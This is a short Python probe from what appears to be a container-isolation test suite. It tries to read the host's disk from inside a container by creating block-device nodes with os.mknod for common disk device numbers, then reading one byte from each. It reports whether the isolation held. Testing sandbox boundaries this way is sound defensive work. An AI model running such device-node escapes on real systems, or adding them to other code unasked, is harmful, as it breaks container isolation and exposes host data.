"""Attack: make a node for the host's disk and read it
Source: mknod(2); cgroup-v1/devices.rst
Profiles: basic docker
Weakening: rootful devices
"""

import os
from pathlib import Path

from probe import held, worked

numbers = {(7, 0), (8, 0), (253, 0), (254, 0), (259, 0)}
for line in Path("/proc/partitions").read_text().splitlines()[2:] if Path("/proc/partitions").exists() else []:
    numbers.add((int(line.split()[0]), int(line.split()[1])))
node = Path("/root/node")
for major, minor in sorted(numbers):
    node.unlink(missing_ok=True)
    try:
        os.mknod(node, 0o600 | 0o060000, os.makedev(major, minor))
        with node.open("rb") as device:
            device.read(1)
    except OSError:
        continue
    worked(f"block device {major}:{minor} can be read")
held(f"none of {len(numbers)} block devices can be made and read")
